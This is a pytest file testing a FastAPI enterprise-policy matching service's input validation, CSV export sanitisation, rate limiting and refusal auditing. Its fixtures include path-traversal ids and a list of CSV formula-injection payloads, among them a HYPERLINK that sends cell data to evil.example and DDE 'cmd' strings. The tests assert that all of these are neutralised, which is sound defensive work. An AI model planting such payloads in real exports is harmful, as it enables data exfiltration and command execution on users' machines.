"""Issue 18 on the real app: strict validation before any write, safe CSV exports, refusals on the record.

Each hostile request of the issue is sent through the HTTP app over a real
store and matcher; the store is checked afterwards, so a refusal that still
wrote something fails the test.
"""

from __future__ import annotations

import time
from typing import Any

import pytest
from api_helpers import LEVELS_ALL, LEVELS_ALL_QUERY, assert_error, auth, with_limits
from fastapi.testclient import TestClient

from api.app import create_app
from api.services import Services

PROFILE = {"id": "H18-1", "name": "台州加固测试有限公司", "region_code": "331002", "employees": 20}


def _stored(services: Services, enterprise_id: str) -> Any:
    return services.store.get_enterprise(enterprise_id)


@pytest.mark.parametrize(
    ("patch", "field"),
    [
        pytest.param({"revenue": 1e-300, "rd_expense": 1e10}, "rd_ratio", id="rd-ratio-overflow"),
        pytest.param({"employees": 2**63 - 1}, "employees", id="int64-employees"),
        pytest.param({"employees": True}, "employees", id="bool-employees"),
        pytest.param({"employees": "5"}, "employees", id="string-employees"),
        pytest.param({"revenue": "5"}, "revenue", id="string-revenue"),
        pytest.param({"revenue": True}, "revenue", id="bool-revenue"),
        pytest.param({"revenue": 1e13}, "revenue", id="revenue-beyond-range"),
        pytest.param({"revenue_growth": -150.0}, "revenue_growth", id="growth-below-minus-100"),
        pytest.param({"major_violation": 1}, "major_violation", id="number-as-boolean"),
        pytest.param({"name": "甲\x00乙"}, "name", id="nul-in-name"),
        pytest.param({"qualifications": ["高新\x00"]}, "qualifications", id="nul-in-list"),
        pytest.param({"id": "."}, "id", id="dot-id"),
        pytest.param({"id": ".."}, "id", id="dotdot-id"),
        pytest.param({"id": "a\x00b"}, "id", id="nul-id"),
        pytest.param({"id": "../etc"}, "id", id="path-id"),
    ],
)
def test_bad_profiles_are_422_naming_the_field_and_store_nothing(client, services, keys, patch, field):
    admin = auth(keys["admin"])
    body = {**PROFILE, **patch}
    before = services.store.count_enterprises()
    error = assert_error(client.post("/v1/enterprises", json=body, headers=admin), 422)
    assert field in str(error), error
    assert services.store.count_enterprises() == before
    assert _stored(services, str(body["id"])) is None
    if field != "id":
        put = client.put(f"/v1/enterprises/{PROFILE['id']}", json=body | {"id": PROFILE["id"]}, headers=admin)
        assert field in str(assert_error(put, 422))
        assert _stored(services, PROFILE["id"]) is None


def test_nan_is_refused_not_stored_as_unknown(client, services, keys):
    raw = '{"id": "H18-nan", "name": "n", "revenue": NaN}'
    response = client.post(
        "/v1/enterprises",
        content=raw,
        headers={**auth(keys["admin"]), "Content-Type": "application/json"},
    )
    assert "revenue" in str(assert_error(response, 422))
    assert _stored(services, "H18-nan") is None


@pytest.mark.parametrize("top_k", [True, "5", 5.0, 0, 10**30])
def test_top_k_must_be_an_integer_in_range(client, keys, top_k):
    body = {"enterprise_id": "E001", "top_k": top_k}
    error = assert_error(client.post("/v1/match", json=body, headers=auth(keys["admin"])), 422)
    assert "top_k" in str(error)


def test_good_profile_still_goes_in(client, services, keys):
    body = {**PROFILE, "id": "H18-ok", "revenue": 1200.5, "rd_expense": 60, "employees": 35}
    response = client.post("/v1/enterprises", json=body, headers=auth(keys["admin"]))
    assert response.status_code == 201, response.text
    assert response.json()["profile"]["rd_ratio"] == 4.9979
    assert _stored(services, "H18-ok").employees == 35


def test_policy_ids_and_nul_are_checked_too(client, services, keys):
    admin = auth(keys["admin"])
    for body, field in (
        ({"id": "..", "title": "t", "text": "一、对企业给予奖励10万元。"}, "id"),
        ({"id": "h18-p", "title": "t\x00", "text": "一、对企业给予奖励10万元。"}, "title"),
        ({"id": "h18-p", "title": "t", "text": "一、对企业\x00给予奖励10万元。"}, "text"),
    ):
        assert field in str(assert_error(client.post("/v1/policies", json=body, headers=admin), 422))
    assert services.store.get_policy("..") is None and services.store.get_policy("h18-p") is None


def test_a_policy_past_its_extraction_budget_is_refused_and_the_worker_replaced(services, keys):
    from dataclasses import replace

    tight = with_limits(
        services, replace(services.limits, extraction_budget_s=0.05, max_policy_text_chars=300_000)
    )
    try:
        with TestClient(create_app(tight.settings, tight), client=("127.0.0.1", 1)) as client:
            body = {"id": "h18-slow", "title": "长", "text": "两" * 200_000}
            error = assert_error(client.post("/v1/policies", json=body, headers=auth(keys["admin"])), 422)
            assert "budget" in error["message"]
            assert services.store.get_policy("h18-slow") is None
            # Either the worker saw its budget run out between stages, or (a stage running past it) it was stopped.
            assert tight.extraction is not None
            assert (
                tight.extraction.restarts == 1 or "(split)" in error["message"] or "item" in error["message"]
            )
            # A fresh worker reads the next document.
            ok = {"id": "h18-fast", "title": "短", "text": "一、对企业给予奖励10万元。"}
            tight_fast = replace(tight.limits, extraction_budget_s=120.0)
            tight.limits = tight_fast
            assert client.post("/v1/policies", json=ok, headers=auth(keys["admin"])).status_code == 201
    finally:
        tight.extraction.close() if tight.extraction else None


def test_a_policy_posted_to_a_city_platform_takes_its_home_region(services, keys):
    # POLICYMATCH_HOME_REGION: a body named without its place (科技局) is the platform's own city's.
    home = Services(
        settings=services.settings.model_copy(update={"home_region": "3310"}),
        store=services.store,
        matcher=services.matcher,
        limits=services.limits,
    )
    body = {
        "id": "h14-home",
        "title": "答复",
        "text": "符合条件的企业可以申请研发投入补助。",
        "department": "科技局",
    }
    try:
        with TestClient(create_app(home.settings, home), client=("127.0.0.1", 1)) as client:
            assert client.post("/v1/policies", json=body, headers=auth(keys["admin"])).status_code == 201
        assert {item.region_code for item in services.store.iter_items("h14-home")} == {"3310"}
    finally:
        home.extraction.close() if home.extraction else None


# --- safe CSV exports ---------------------------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _csv_cells(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_target_csv_has_no_formula_cell(client, services, keys):
    from api.exports import is_formula_cell

    admin, push = auth(keys["admin"]), auth(keys["push"])
    for n, name in enumerate(HOSTILE_NAMES):
        body = {"id": f"H18-csv-{n}", "name": name, "region_code": "331002", "industry_code": "C3670"}
        response = client.post("/v1/enterprises", json=body, headers=admin)
        assert response.status_code == 201, response.text
    with client.stream(
        "GET",
        "/v1/policies/jj-2024-02/targets.csv",
        params={"levels": LEVELS_ALL_QUERY},
        headers=push,
    ) as response:
        assert response.status_code == 200
        text = "".join(response.iter_text())
    rows = _csv_cells(text)
    names = {row[0]: row[1] for row in rows[1:]}
    for n in range(len(HOSTILE_NAMES)):
        shown = names[f"H18-csv-{n}"]
        assert shown.startswith("'"), shown  # neutralised, and the text is kept after the quote
    # The leading tab was stripped on store: "=1+1" must still not be a live formula.
    assert names["H18-csv-4"] == "'=1+1"
    assert [cell for row in rows for cell in row if is_formula_cell(cell)] == []


def test_cli_csv_export_is_safe_too(client, services, keys, tmp_path):
    import argparse

    from api.commands.match import _targets_csv
    from api.exports import is_formula_cell

    admin = auth(keys["admin"])
    body = {"id": "H18-cli", "name": "=HYPERLINK(1)", "region_code": "331002"}
    assert client.post("/v1/enterprises", json=body, headers=admin).status_code in (200, 201)
    out = tmp_path / "targets.csv"
    args = argparse.Namespace(
        policy_id="jj-2024-02",
        item=None,
        levels=LEVELS_ALL,
        csv=str(out),
    )
    assert _targets_csv(services.matcher, args) == 0
    rows = _csv_cells(out.read_text(encoding="utf-8"))
    assert ["H18-cli", "'=HYPERLINK(1)"] == rows[[r[0] for r in rows].index("H18-cli")][:2]
    assert [cell for row in rows for cell in row if is_formula_cell(cell)] == []


# --- refusals on the record ---------------------------------------------------------------------


def _refused_rows(services: Services, **match: Any) -> list[Any]:
    assert services.refusals is not None
    services.refusals.flush()
    rows = services.store.query_audit(action="request.refused", limit=1000)
    return [r for r in rows if all(r.details.get(k) == v for k, v in match.items())]


def test_401_403_429_are_audited_and_aggregated(services, keys):
    from dataclasses import replace

    tight = with_limits(
        services,
        replace(services.limits, rate_per_minute=1, burst=2, unauth_rate_per_minute=1, unauth_burst=5),
    )
    try:
        app = create_app(tight.settings, tight)
        with (
            TestClient(app, client=("127.0.0.9", 1)) as client,
            TestClient(app, client=("127.0.0.10", 1)) as good,
        ):
            # 401 × 5 (unknown key), then the client is out of failed attempts: 429.
            for _ in range(5):
                assert client.get("/v1/policies", headers=auth("pm_nokey.notasecret")).status_code == 401
            flood = [client.get("/v1/policies", headers=auth("pm_nokey.again")) for _ in range(20)]
            assert {r.status_code for r in flood} == {429}
            assert int(flood[0].headers["Retry-After"]) >= 1
            # 403: an enterprise key reaching for another enterprise.
            # A good key from the same address is not held up by the flood.
            assert client.get("/v1/enterprises/E001", headers=auth(keys["enterprise"])).status_code == 200
            other = good.get("/v1/enterprises/E002", headers=auth(keys["enterprise"]))
            assert other.status_code == 403
            # 429 of a known key.
            push = auth(keys["push"])
            statuses = [good.get("/v1/policies", headers=push).status_code for _ in range(4)]
            assert statuses.count(429) == 2
        rows_401 = _refused_rows(tight, status=401)
        rows_429 = _refused_rows(tight, status=429)
        rows_403 = _refused_rows(tight, status=403, code="forbidden_enterprise")
        by_client = [r for r in rows_401 if r.actor == "client:127.0.0.9"]
        assert sum(r.details["count"] for r in by_client) == 5
        assert len(by_client) == 1  # aggregated: one row for the window
        flood_rows = [r for r in rows_429 if r.actor == "client:127.0.0.9"]
        assert sum(r.details["count"] for r in flood_rows) == 20 and len(flood_rows) == 1
        assert flood_rows[0].details["paths"] == {"/v1/policies": 20}
        assert any(r.details["count"] == 1 and r.details["role"] == "enterprise" for r in rows_403)
        assert tight.refusals is not None and tight.refusals.recorded == 5 + 20 + 1 + 2
        # No secret, nor its random part, reaches the audit trail.
        text = str([r.to_dict() for r in _refused_rows(tight)])
        assert "notasecret" not in text and keys["push"].split(".")[-1] not in text
    finally:
        if tight.refusals is not None:
            tight.refusals.close()
        if tight.extraction is not None:
            tight.extraction.close()


def test_refusal_rows_stay_bounded_under_a_flood():
    from api.security import RefusalLog

    written: list[Any] = []
    now = [1_000_000.0]
    log = RefusalLog(written.append, window_s=60, clock=lambda: now[0])
    log.max_callers = 50
    for n in range(100_000):
        log.record(f"client:10.0.{n % 200}.{n % 7}", 401, "unauthorized", f"/v1/x/{n}")
    now[0] += 61
    log.flush(closed_only=True)
    assert len(written) <= 51  # one row per caller (the 51st is "(many)") however long the flood
    assert sum(e.details["count"] for e in written) == 100_000
    assert all(len(e.details["paths"]) <= 5 for e in written)


def test_a_worker_running_past_its_budget_is_stopped_and_replaced():
    from api.workers import ExtractionPool, ExtractionTimeout
    from corpus.schemas import validate_policy

    pool = ExtractionPool(1)
    try:
        pool.warm()
        long = validate_policy(
            {"id": "h18-long", "title": "长", "text": "月" * 200_000, "region_code": "4401"}
        )
        started = time.perf_counter()
        with pytest.raises(ExtractionTimeout, match="budget"):
            # One item of 200 000 characters reads for seconds: the stage itself overruns 1 s + 1 s.
            pool.prepare(long, budget_s=1.0, max_chars=300_000)
        assert time.perf_counter() - started < 30 and pool.restarts == 1
        short = validate_policy({"id": "h18-short", "title": "短", "text": "一、对企业给予奖励10万元。"})
        assert pool.prepare(short, budget_s=60, max_chars=1000).items
    finally:
        pool.close()
